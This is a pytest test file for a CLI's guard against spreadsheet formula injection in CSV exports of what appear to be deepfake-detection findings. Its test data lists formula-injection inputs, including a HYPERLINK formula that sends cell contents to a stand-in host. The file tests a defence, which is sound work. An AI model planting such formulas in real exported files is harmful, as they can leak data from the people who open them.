"""No text of others is a formula in a spreadsheet, and every one can be had back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.cells import guarded, unguarded
from cli.findings import Commas, Finding

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://h.test/?"&A1)',
    "＝1",
    "＠A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_guarded(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a.mp4", "a=1", "1-2", " =1", "'", "'a", "./-a.mp4", "0.5"])
def test_other_texts_stay_as_they_are(text):
    assert guarded(text) == text == unguarded(text)


@given(st.text(alphabet="'=+-@\t\r\n＝a1"))
def test_the_text_can_be_had_back(text):
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_rows_hold_guarded_texts_and_plain_numbers(text):
    written = io.StringIO(newline="")
    sink = Commas(written.write)
    sink.add(Finding(text, 1, -5, None, {"type": "about:blank", "detail": text}))
    answer = {
        "verdict": "manipulated",
        "probabilities": {"real": 0.25, "fake": 0.75},
        "faces": [],
        "summary": text,
        "reasons": [text],
        "media": {"sha256": "0", "duration_s": 1.5},
        "model": {"id": text, "digest": "sha256:0"},
    }
    sink.add(Finding(text, 2, 3, answer))
    lost, found = csv.DictReader(io.StringIO(written.getvalue(), newline=""))
    assert (lost["file"], lost["error"]) == (f"'{text}", f"'{text}")
    assert (lost["size"], lost["mtime_ns"]) == ("1", "-5")
    assert {found[name] for name in ("file", "summary", "reasons", "model")} == {f"'{text}"}
    assert (found["fake"], found["duration_s"], found["faces"]) == ("0.75", "1.5", "0")
